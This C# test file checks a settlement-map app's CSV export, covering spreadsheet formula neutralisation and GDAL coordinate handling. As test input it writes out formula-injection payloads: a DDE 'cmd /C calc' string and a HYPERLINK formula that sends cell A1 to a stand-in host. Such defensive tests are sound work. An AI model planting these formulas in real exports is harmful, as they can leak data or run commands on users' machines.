using System.Globalization;
using System.Text;
using CsvHelper;
using Microsoft.EntityFrameworkCore;
using SettlementMap.Tests.Infrastructure;
using SettlementMap.Tests.Ogc;

namespace SettlementMap.Tests.Export;

/// <summary>The CSV export: text that a spreadsheet would run as a formula, and geometry GDAL reads in the right place.</summary>
public sealed class CsvExportTests(AppFixture app) : IClassFixture<AppFixture>
{
    private static List<IDictionary<string, object>> Rows(byte[] bytes)
    {
        using var reader = new StringReader(Encoding.UTF8.GetString(bytes.AsSpan(3)));
        using var csv = new CsvReader(reader, CultureInfo.InvariantCulture);
        return [.. csv.GetRecords<dynamic>().Cast<IDictionary<string, object>>()];
    }

    [Fact]
    public async Task Text_cells_that_a_spreadsheet_would_run_as_formulas_start_with_a_quote_and_numbers_stay_numbers()
    {
        string code;
        await using (var db = app.CreateContext())
        {
            var settlement = await db.Settlements.Include(s => s.Municipality).Where(s => s.Municipality!.Code == "subotica").OrderBy(s => s.Id).FirstAsync();
            settlement.NameLatn = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"klik\")";
            settlement.NameCyrl = "=cmd|' /C calc'!A0";
            settlement.PopulationSource = "@SUM(1+1)*cmd|' /C calc'!A0";
            settlement.Source = "\t=1+1";
            await db.SaveChangesAsync();
            code = settlement.Code;
        }
        await using (var db = app.CreateContext())
        {
            var other = await db.Settlements.Include(s => s.Municipality).Where(s => s.Municipality!.Code == "subotica").OrderBy(s => s.Id).Skip(1).FirstAsync();
            other.NameLatn = "+381 24 555";
            other.NameCyrl = "-12.5";
            other.PopulationSource = "\r=2+2";
            other.Source = "-2+3";
            await db.SaveChangesAsync();
        }

        using var client = app.Factory.CreateClient();
        var bytes = await client.GetByteArrayAsync(new Uri("/api/export/settlements?format=csv&municipality=subotica&geometry=lonlat", UriKind.Relative));
        var rows = Rows(bytes);
        var first = rows.Single(r => (string)r["code"] == code);
        Assert.Equal("'=HYPERLINK(\"http://example.invalid/?\"&A1,\"klik\")", first["name_latn"]);
        Assert.Equal("'=cmd|' /C calc'!A0", first["name_cyrl"]);
        Assert.Equal("'@SUM(1+1)*cmd|' /C calc'!A0", first["population_source"]);
        Assert.Equal("'\t=1+1", first["source"]);
        var second = rows.Single(r => (string)r["name_latn"] == "'+381 24 555");
        Assert.Equal("-12.5", second["name_cyrl"]); // a number a spreadsheet reads as a number: no formula, left as it is
        Assert.Equal("'\r=2+2", second["population_source"]);
        Assert.Equal("'-2+3", second["source"]);
        // Numbers are never prefixed: every cell of the numeric columns parses as a number.
        foreach (var row in rows)
        {
            foreach (var column in new[] { "id", "estimated_inhabitants", "substandard_share_pct", "area_m2", "lon", "lat" })
            {
                if (row[column] is string { Length: > 0 } cell)
                {
                    Assert.True(double.TryParse(cell, NumberStyles.Float, CultureInfo.InvariantCulture, out _), $"{column}: {cell}");
                }
            }
        }
        // No cell of the raw bytes starts a formula (the reader above unquotes; a spreadsheet does too).
        foreach (var row in rows)
        {
            foreach (var (column, value) in row)
            {
                if (value is string { Length: > 0 } cell && "=+-@\t\r".Contains(cell[0], StringComparison.Ordinal))
                {
                    Assert.True(double.TryParse(cell, NumberStyles.Float, CultureInfo.InvariantCulture, out _), $"{column}: {cell}");
                }
            }
        }

        using var metadata = System.Text.Json.JsonDocument.Parse(await client.GetStringAsync(new Uri("/api/export/settlements?format=metadata", UriKind.Relative)));
        Assert.Contains("single quote", metadata.RootElement.GetProperty("csv_text_cells").GetString(), StringComparison.Ordinal);
    }

    public static TheoryData<string, int, bool, string> Crss => new()
    {
        { "OGC:CRS84", 4326, true, "WGS 84" },
        { "EPSG:4326", 4326, true, "WGS 84" },
        { "EPSG:3909", 3909, false, "MGI 1901 / Balkans zone 7" },
        { "EPSG:32634", 32634, false, "WGS 84 / UTM zone 34N" },
        { "EPSG:3857", 3857, false, "WGS 84 / Pseudo-Mercator" },
        { "EPSG:8682", 8682, false, "SRB_ETRS89 / UTM zone 34N" },
    };

    [GdalTheory]
    [MemberData(nameof(Crss))]
    public async Task GDAL_reads_the_CSV_WKT_in_x_y_order_with_the_CRS_named_in_the_header(string crs, int srid, bool geographic, string crsName)
    {
        var query = crs == "OGC:CRS84" ? "" : "&crs=" + crs;
        await using var db = app.CreateContext();
        var sample = await db.Settlements.Include(s => s.Municipality).Where(s => s.Municipality!.Code == "nis").OrderBy(s => s.Id).FirstAsync();
        using var client = app.Factory.CreateClient();
        var bytes = await client.GetByteArrayAsync(new Uri("/api/export/settlements?format=csv&municipality=nis" + query, UriKind.Relative));
        var file = Path.Combine(Path.GetTempPath(), $"export-{Guid.NewGuid():N}.csv");
        await File.WriteAllBytesAsync(file, bytes);
        try
        {
            var layer = Path.GetFileNameWithoutExtension(file);
            var summary = await ExportGdal.OgrInfoAsync("-ro", "-so", file, layer);
            Assert.Contains($"\"{crsName}\"", summary, StringComparison.Ordinal);
            var feature = await ExportGdal.OgrInfoAsync("-ro", file, layer, "-where", $"code = '{sample.Code}'");
            var expected = await ExportGdal.PostgisVertexAsync(app.ConnectionString, sample.Code, srid);
            ExportGdal.AssertHasVertex(ExportGdal.Vertices(feature), expected, geographic);
            var stored = await ExportGdal.PostgisVertexAsync(app.ConnectionString, sample.Code, 4326);
            ExportGdal.AssertHasVertex(await ExportGdal.ReprojectedToWgs84Async(file, layer, sample.Code), stored, geographic: true, within: 1e-6);
        }
        finally
        {
            File.Delete(file);
        }

        // The centroid columns are x then y too, named for what they are.
        var header = Rows(await client.GetByteArrayAsync(new Uri("/api/export/settlements?format=csv&geometry=lonlat&municipality=nis" + query, UriKind.Relative)))[0].Keys.TakeLast(2).ToArray();
        Assert.Equal(geographic ? ["lon", "lat"] : ["easting", "northing"], header);
    }
}
